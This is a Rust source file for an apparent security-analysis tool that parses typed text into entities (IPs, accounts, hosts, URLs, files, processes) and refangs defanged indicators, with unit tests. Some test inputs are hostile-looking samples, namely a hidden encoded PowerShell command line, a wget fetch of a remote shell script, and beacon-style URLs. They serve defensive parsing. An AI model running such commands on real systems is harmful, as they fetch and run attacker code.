//! [`Entity::parse`]: an entity from the text a user types or a cell holds.

use serde_json::Value;

use super::model::{json_kind, Entity};
use super::EntityKind;
use crate::enrich::components::url_components;
use crate::error::{Error, Result};
use crate::ioc::{self, IocType};

/// The longest text parsed as an entity (a command line may be long; more is a mistake or an attack).
const MAX_TEXT: usize = 1 << 20;

impl Entity {
    /// An entity of `kind` from text:
    ///
    /// - IpAddress: an IPv4 or IPv6 address (defanged `1[.]2.3.4` accepted) → Address;
    /// - Account: `CONTOSO\jdoe` → NTDomain + Name, `jdoe@contoso.com` → Name + UPNSuffix, `S-1-5-…` → Sid, a GUID →
    ///   AadUserId, else Name;
    /// - Host: `wks-fin-07.contoso.com` → HostName + DnsDomain, `CONTOSO\WKS01` → NTDomain + HostName, an IP address
    ///   or a bare name → HostName;
    /// - Dns: a domain name → DomainName; Url: an absolute URL → Url, Scheme, Host, Port, Path, Query, Fragment;
    /// - File: an MD5/SHA1/SHA256 hash → Md5/Sha1/Sha256, a Windows or Linux path → FullPath, Directory, Name, a bare
    ///   name → Name; FileHash: a hash → Algorithm + Value;
    /// - Process: a command line → CommandLine and ImageFile (a File from its first token);
    /// - Alert, Mailbox, CloudApplication, AzureResource, RegistryKey, … → their key attribute;
    /// - GeoLocation, MailMessage, NetworkConnection: objects only.
    ///
    /// Text starting with `{` is read as a JSON object ([`Entity::from_object`]). Errors name the kind and the text
    /// (`IpAddress: 'abc' is not an IP address …`).
    pub fn parse(kind: EntityKind, text: &str) -> Result<Entity> {
        if text.len() > MAX_TEXT {
            return Err(Error::invalid(format!(
                "{kind}: the text is {} bytes, more than the {MAX_TEXT} an entity is read from",
                text.len()
            )));
        }
        let t = text.trim();
        if t.is_empty() {
            return Err(Error::invalid(format!("{kind}: the text is empty: give {}", example(kind))));
        }
        if t.starts_with('{') && !is_guid(t) {
            let v: Value = serde_json::from_str(t).map_err(|e| Error::parse(format!("{kind} object"), e))?;
            return match v {
                Value::Object(m) => Entity::from_object(kind, &m),
                other => Err(Error::invalid(format!("{kind}: expected an object, got {}", json_kind(&other)))),
            };
        }
        let mut e = Entity::new(kind);
        let mut put = |k: &str, v: &str| {
            if !v.is_empty() {
                e.set(k, Value::String(v.to_string()));
            }
        };
        match kind {
            EntityKind::IpAddress => {
                let refanged = ioc::refang::refang(t).text.into_owned();
                let addr = ioc::ip::parse_ip(&refanged).ok_or_else(|| {
                    Error::invalid(format!(
                        "IpAddress: '{}' is not an IP address: give an IPv4 or IPv6 address such as 1.2.3.4",
                        shorten(t)
                    ))
                })?;
                put("Address", &addr.to_string());
            }
            EntityKind::Account => {
                if let Some((domain, name)) = t.split_once('\\').filter(|(d, n)| !d.is_empty() && !n.is_empty()) {
                    put("Name", name);
                    put("NTDomain", domain);
                } else if is_sid(t) {
                    put("Sid", &t.to_ascii_uppercase());
                } else if is_guid(t) {
                    put("AadUserId", &t.trim_matches(['{', '}']).to_ascii_lowercase());
                } else if let Some((name, suffix)) = t.rsplit_once('@').filter(|(n, s)| !n.is_empty() && s.contains('.') && !s.contains(char::is_whitespace)) {
                    put("Name", name);
                    put("UPNSuffix", suffix);
                } else {
                    put("Name", t);
                }
            }
            EntityKind::Host => {
                let t = t.trim_end_matches('.');
                if t.is_empty() || t.contains(char::is_whitespace) || t.contains('/') {
                    return Err(Error::invalid(format!(
                        "Host: '{}' is not a host name: give a name such as wks-fin-07 or wks-fin-07.contoso.com",
                        shorten(t)
                    )));
                }
                if ioc::ip::parse_ip(t).is_some() {
                    put("HostName", t);
                } else if let Some((domain, host)) = t.split_once('\\').filter(|(d, h)| !d.is_empty() && !h.is_empty()) {
                    put("HostName", host);
                    put("NTDomain", domain);
                } else if let Some((host, domain)) = t.split_once('.').filter(|(h, d)| !h.is_empty() && !d.is_empty()) {
                    put("HostName", host);
                    put("DnsDomain", domain);
                } else {
                    put("HostName", t);
                }
            }
            EntityKind::Dns => {
                let refanged = ioc::refang::refang(t).text.into_owned();
                let name = refanged.trim_end_matches('.');
                if ioc::ip::parse_ip(name).is_some() {
                    return Err(Error::invalid(format!("Dns: '{}' is an IP address, not a domain name: use IpAddress", shorten(t))));
                }
                if name.contains("://") {
                    return Err(Error::invalid(format!("Dns: '{}' is a URL, not a domain name: use Url (or its Host)", shorten(t))));
                }
                if !is_host_name(name) {
                    return Err(Error::invalid(format!(
                        "Dns: '{}' is not a domain name: give a name such as www.contoso.com",
                        shorten(t)
                    )));
                }
                put("DomainName", name);
            }
            EntityKind::Url => {
                let refanged = ioc::refang::refang(t).text.into_owned();
                let c = url_components(&refanged).map_err(|e| Error::invalid(format!("Url: {e}")))?;
                put("Url", &refanged);
                put("Scheme", &c.scheme);
                let (host, port) = split_netloc(&c.netloc);
                put("Host", host);
                put("Port", port);
                let path = if c.params.is_empty() { c.path.clone() } else { format!("{};{}", c.path, c.params) };
                put("Path", &path);
                put("Query", &c.query);
                put("Fragment", &c.fragment);
            }
            EntityKind::File => {
                let t = t.trim_matches('"');
                match hash_type(t) {
                    Some(IocType::Md5Hash) => put("Md5", &t.to_ascii_lowercase()),
                    Some(IocType::Sha1Hash) => put("Sha1", &t.to_ascii_lowercase()),
                    Some(_) => put("Sha256", &t.to_ascii_lowercase()),
                    None => {
                        let (dir, name) = split_path(t);
                        if dir.is_empty() {
                            put("Name", name);
                        } else {
                            put("FullPath", t);
                            put("Directory", dir);
                            put("Name", name);
                        }
                    }
                }
            }
            EntityKind::FileHash => {
                let t = t.to_ascii_lowercase();
                let alg = match hash_type(&t) {
                    Some(IocType::Md5Hash) => "MD5",
                    Some(IocType::Sha1Hash) => "SHA1",
                    Some(_) => "SHA256",
                    None => {
                        return Err(Error::invalid(format!(
                            "FileHash: '{}' is not an MD5, SHA1 or SHA256 hash (32, 40 or 64 hex digits)",
                            shorten(&t)
                        )))
                    }
                };
                put("Algorithm", alg);
                put("Value", &t);
            }
            EntityKind::Process => {
                put("CommandLine", t);
                let image = first_token(t);
                if !image.is_empty() {
                    let file = Entity::parse(EntityKind::File, image)?;
                    e.set("ImageFile", file.to_json());
                }
            }
            EntityKind::AzureResource => {
                put("ResourceId", t);
                let lower = t.to_ascii_lowercase();
                if let Some(i) = lower.find("/subscriptions/") {
                    let rest = &t[i + "/subscriptions/".len()..];
                    put("SubscriptionId", rest.split('/').next().unwrap_or(""));
                }
            }
            EntityKind::RegistryKey => match t.split_once('\\') {
                Some((hive, key)) if hive.to_ascii_uppercase().starts_with("HK") => {
                    put("Hive", hive);
                    put("Key", key);
                }
                _ => put("Key", t),
            },
            EntityKind::GeoLocation | EntityKind::MailMessage | EntityKind::NetworkConnection | EntityKind::Unknown => {
                return Err(Error::invalid(format!(
                    "{kind}: build it from an object ({}), not from text",
                    example(kind)
                )))
            }
            other => {
                // the key attribute of the kind (Alert DisplayName, Mailbox MailboxPrimaryAddress, …)
                let attr = other.key_attributes().first().copied().unwrap_or("Name");
                put(attr, t);
            }
        }
        Ok(e)
    }
}

/// An example of what `kind` is built from, for error messages.
fn example(kind: EntityKind) -> &'static str {
    match kind {
        EntityKind::IpAddress => "an IP address such as 1.2.3.4",
        EntityKind::Account => "a name, DOMAIN\\name, name@domain, a SID or an Azure AD object id",
        EntityKind::Host => "a host name such as wks-fin-07.contoso.com",
        EntityKind::Dns => "a domain name such as www.contoso.com",
        EntityKind::Url => "an absolute URL such as https://host/path",
        EntityKind::File => "a path or an MD5/SHA1/SHA256 hash",
        EntityKind::Process => "a command line",
        EntityKind::GeoLocation => "{CountryCode, CountryOrRegionName, City, Latitude, Longitude}",
        EntityKind::MailMessage => "{Sender, Recipient, Subject, NetworkMessageId}",
        EntityKind::NetworkConnection => "{SourceAddress, SourcePort, DestinationAddress, DestinationPort, Protocol}",
        _ => "its key value or an object of its attributes",
    }
}

/// At most 80 characters of `s`, for messages.
fn shorten(s: &str) -> String {
    if s.chars().count() <= 80 {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(80).collect::<String>())
    }
}

/// The hash type of `s` when it is an MD5, SHA1 or SHA256 hash (the IoC classifier's check).
fn hash_type(s: &str) -> Option<IocType> {
    match ioc::classify(s)? {
        t @ (IocType::Md5Hash | IocType::Sha1Hash | IocType::Sha256Hash) => Some(t),
        _ => None,
    }
}

/// `S-1-5-21-…`: a Windows security identifier.
fn is_sid(s: &str) -> bool {
    let mut parts = s.split('-');
    matches!(parts.next(), Some("S" | "s"))
        && parts.next() == Some("1")
        && {
            let rest: Vec<&str> = parts.collect();
            !rest.is_empty() && rest.iter().all(|p| !p.is_empty() && p.len() <= 20 && p.bytes().all(|b| b.is_ascii_digit()))
        }
}

/// A GUID `8-4-4-4-12` hex digits, braces allowed.
fn is_guid(s: &str) -> bool {
    let s = s.strip_prefix('{').and_then(|x| x.strip_suffix('}')).unwrap_or(s);
    let lens: Vec<usize> = s.split('-').map(str::len).collect();
    lens == [8, 4, 4, 4, 12] && s.bytes().all(|b| b == b'-' || b.is_ascii_hexdigit())
}

/// Labels of letters, digits, `-` and `_`, 1–63 bytes each, 253 in all.
fn is_host_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.split('.').all(|l| !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'))
}

/// `user:pw@host:port` → (host, port).
fn split_netloc(netloc: &str) -> (&str, &str) {
    let hostport = netloc.rsplit_once('@').map_or(netloc, |(_, h)| h);
    if hostport.starts_with('[') {
        return match hostport.find(']') {
            Some(i) => (&hostport[..=i], hostport[i + 1..].trim_start_matches(':')),
            None => (hostport, ""),
        };
    }
    match hostport.rsplit_once(':') {
        Some((h, p)) if !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()) => (h, p),
        _ => (hostport, ""),
    }
}

/// A path's directory and file name (either separator): `C:\Windows\cmd.exe` → (`C:\Windows`, `cmd.exe`),
/// `/usr/bin/wget` → (`/usr/bin`, `wget`), `/init` → (`/`, `init`), `cmd.exe` → (``, `cmd.exe`).
fn split_path(path: &str) -> (&str, &str) {
    match path.rfind(['\\', '/']) {
        Some(0) => (&path[..1], &path[1..]),
        Some(i) => {
            let dir = &path[..i];
            // keep the separator of a drive root (C:\)
            let dir = if dir.len() == 2 && dir.as_bytes()[1] == b':' { &path[..=i] } else { dir };
            (dir, &path[i + 1..])
        }
        None => ("", path),
    }
}

/// The program of a command line: a quoted first token, else an unquoted path up to `.exe` (paths with spaces,
/// `C:\Program Files\x\y.exe -a`), else the text up to the first space.
fn first_token(cmd: &str) -> &str {
    let cmd = cmd.trim_start();
    if let Some(rest) = cmd.strip_prefix('"') {
        return rest.split('"').next().unwrap_or(rest).trim();
    }
    let lower = cmd.to_ascii_lowercase();
    if let Some(i) = lower.find(".exe") {
        let end = i + 4;
        let after = lower.as_bytes().get(end);
        let before_space = cmd[..i].contains(' ');
        let looks_like_path = cmd.as_bytes().get(1) == Some(&b':') || cmd.starts_with('\\');
        if (after.is_none() || after == Some(&b' ')) && (!before_space || looks_like_path) {
            return &cmd[..end];
        }
    }
    cmd.split(char::is_whitespace).next().unwrap_or("")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn p(kind: EntityKind, s: &str) -> Value {
        Entity::parse(kind, s).unwrap().to_json()
    }

    #[test]
    fn ip_addresses() {
        assert_eq!(p(EntityKind::IpAddress, " 1.2.3.4 "), json!({"Type": "IpAddress", "Address": "1.2.3.4"}));
        assert_eq!(p(EntityKind::IpAddress, "203.0.113[.]66"), json!({"Type": "IpAddress", "Address": "203.0.113.66"}));
        assert_eq!(p(EntityKind::IpAddress, "2001:DB8::1"), json!({"Type": "IpAddress", "Address": "2001:db8::1"}));
        let e = Entity::parse(EntityKind::IpAddress, "abc").unwrap_err().to_string();
        assert_eq!(e, "IpAddress: 'abc' is not an IP address: give an IPv4 or IPv6 address such as 1.2.3.4");
        assert!(Entity::parse(EntityKind::IpAddress, "10.0.0.300").is_err());
        let e = Entity::parse(EntityKind::IpAddress, "  ").unwrap_err().to_string();
        assert!(e.starts_with("IpAddress: the text is empty"), "{e}");
    }

    #[test]
    fn accounts() {
        assert_eq!(p(EntityKind::Account, "CONTOSO\\jdoe"), json!({"Type": "Account", "Name": "jdoe", "NTDomain": "CONTOSO"}));
        assert_eq!(p(EntityKind::Account, "jdoe@contoso.com"), json!({"Type": "Account", "Name": "jdoe", "UPNSuffix": "contoso.com"}));
        assert_eq!(p(EntityKind::Account, "S-1-5-21-1004336348-1177238915-682003330-512"), json!({"Type": "Account", "Sid": "S-1-5-21-1004336348-1177238915-682003330-512"}));
        assert_eq!(p(EntityKind::Account, "{4ECDE3E9-BFD0-49CC-9041-CBD7EFC6B34C}"), json!({"Type": "Account", "AadUserId": "4ecde3e9-bfd0-49cc-9041-cbd7efc6b34c"}));
        assert_eq!(p(EntityKind::Account, "dbadmin"), json!({"Type": "Account", "Name": "dbadmin"}));
        let a = Entity::parse(EntityKind::Account, "CONTOSO\\jdoe").unwrap();
        assert_eq!(a.attr("QualifiedName").as_deref(), Some("CONTOSO\\jdoe"));
        let a = Entity::parse(EntityKind::Account, "jdoe@contoso.com").unwrap();
        assert_eq!(a.attr("QualifiedName").as_deref(), Some("jdoe@contoso.com"));
    }

    #[test]
    fn hosts_and_domains() {
        assert_eq!(p(EntityKind::Host, "wks-fin-07.contoso.com"), json!({"Type": "Host", "HostName": "wks-fin-07", "DnsDomain": "contoso.com"}));
        assert_eq!(p(EntityKind::Host, "WKS-FIN-07"), json!({"Type": "Host", "HostName": "WKS-FIN-07"}));
        assert_eq!(p(EntityKind::Host, "10.0.2.17"), json!({"Type": "Host", "HostName": "10.0.2.17"}));
        assert_eq!(p(EntityKind::Host, "CONTOSO\\WKS01"), json!({"Type": "Host", "HostName": "WKS01", "NTDomain": "CONTOSO"}));
        assert!(Entity::parse(EntityKind::Host, "a b").unwrap_err().to_string().contains("is not a host name"));
        assert_eq!(p(EntityKind::Dns, "cdn-updates.northwind-sync[.]xyz."), json!({"Type": "Dns", "DomainName": "cdn-updates.northwind-sync.xyz"}));
        assert!(Entity::parse(EntityKind::Dns, "1.2.3.4").unwrap_err().to_string().contains("use IpAddress"));
        assert!(Entity::parse(EntityKind::Dns, "http://a.com/").unwrap_err().to_string().contains("use Url"));
        assert!(Entity::parse(EntityKind::Dns, "not a domain").is_err());
    }

    #[test]
    fn urls() {
        let u = p(EntityKind::Url, "https://cdn-updates.northwind-sync.xyz:8443/api/beacon?id=7#top");
        assert_eq!(
            u,
            json!({"Type": "Url", "Url": "https://cdn-updates.northwind-sync.xyz:8443/api/beacon?id=7#top", "Scheme": "https",
                   "Host": "cdn-updates.northwind-sync.xyz", "Port": "8443", "Path": "/api/beacon", "Query": "id=7", "Fragment": "top"})
        );
        let u = p(EntityKind::Url, "hxxp://85.214.149[.]236:443/sugarcrm/themes/default/images/");
        assert_eq!((u["Host"].as_str(), u["Port"].as_str()), (Some("85.214.149.236"), Some("443")));
        let e = Entity::parse(EntityKind::Url, "evil.com/x").unwrap_err().to_string();
        assert!(e.starts_with("Url: 'evil.com/x' is not an absolute URL"), "{e}");
    }

    #[test]
    fn files_and_hashes() {
        assert_eq!(
            p(EntityKind::File, "C:\\Users\\Public\\Downloads\\driver_updater.exe"),
            json!({"Type": "File", "FullPath": "C:\\Users\\Public\\Downloads\\driver_updater.exe", "Directory": "C:\\Users\\Public\\Downloads", "Name": "driver_updater.exe"})
        );
        assert_eq!(p(EntityKind::File, "/usr/bin/wget"), json!({"Type": "File", "FullPath": "/usr/bin/wget", "Directory": "/usr/bin", "Name": "wget"}));
        assert_eq!(p(EntityKind::File, "C:\\boot.ini")["Directory"], json!("C:\\"));
        assert_eq!(p(EntityKind::File, "/init")["Directory"], json!("/"));
        assert_eq!(p(EntityKind::File, "cmd.exe"), json!({"Type": "File", "Name": "cmd.exe"}));
        assert_eq!(p(EntityKind::File, "D41D8CD98F00B204E9800998ECF8427E"), json!({"Type": "File", "Md5": "d41d8cd98f00b204e9800998ecf8427e"}));
        assert_eq!(p(EntityKind::File, "da39a3ee5e6b4b0d3255bfef95601890afd80709")["Sha1"], json!("da39a3ee5e6b4b0d3255bfef95601890afd80709"));
        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        let f = Entity::parse(EntityKind::File, sha).unwrap();
        assert_eq!((f.attr("Sha256").as_deref(), f.attr("file_hash").as_deref()), (Some(sha), Some(sha)));
        assert_eq!(p(EntityKind::FileHash, sha), json!({"Type": "FileHash", "Algorithm": "SHA256", "Value": sha}));
        assert!(Entity::parse(EntityKind::FileHash, "abc").unwrap_err().to_string().contains("is not an MD5"));
    }

    #[test]
    fn processes() {
        let p1 = Entity::parse(EntityKind::Process, "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA").unwrap();
        assert_eq!(p1.attr("CommandLine").as_deref(), Some("powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA"));
        assert_eq!(p1.attr("ProcessName").as_deref(), Some("powershell.exe"));
        assert_eq!(p1.attr("ProcessFilePath"), None);
        let p2 = Entity::parse(EntityKind::Process, "\"C:\\Program Files\\App\\app.exe\" --x").unwrap();
        assert_eq!(p2.attr("ProcessFilePath").as_deref(), Some("C:\\Program Files\\App\\app.exe"));
        assert_eq!(p2.attr("ProcessName").as_deref(), Some("app.exe"));
        let p3 = Entity::parse(EntityKind::Process, "C:\\Program Files\\App\\app.exe --x").unwrap();
        assert_eq!(p3.attr("ProcessFilePath").as_deref(), Some("C:\\Program Files\\App\\app.exe"));
        let p4 = Entity::parse(EntityKind::Process, "wget http://13.67.35.176/QuZYpObins.sh -t 3").unwrap();
        assert_eq!(p4.attr("ProcessName").as_deref(), Some("wget"));
    }

    #[test]
    fn others_and_objects() {
        assert_eq!(p(EntityKind::Mailbox, "mike.jones@contoso.com"), json!({"Type": "Mailbox", "MailboxPrimaryAddress": "mike.jones@contoso.com"}));
        let r = p(EntityKind::AzureResource, "/subscriptions/40dcc8bf-0478-4f3b-b275-ed0a94f2c013/resourceGroups/rg/providers/x/y");
        assert_eq!(r["SubscriptionId"], json!("40dcc8bf-0478-4f3b-b275-ed0a94f2c013"));
        assert_eq!(p(EntityKind::RegistryKey, "HKEY_LOCAL_MACHINE\\Software\\Run"), json!({"Type": "RegistryKey", "Hive": "HKEY_LOCAL_MACHINE", "Key": "Software\\Run"}));
        let e = Entity::parse(EntityKind::GeoLocation, "Seattle").unwrap_err().to_string();
        assert!(e.starts_with("GeoLocation: build it from an object"), "{e}");
        assert_eq!(p(EntityKind::GeoLocation, "{\"city\": \"Seattle\"}"), json!({"Type": "GeoLocation", "City": "Seattle"}));
        assert!(Entity::parse(EntityKind::Host, "{not json").unwrap_err().to_string().starts_with("could not read Host object"));
    }
}
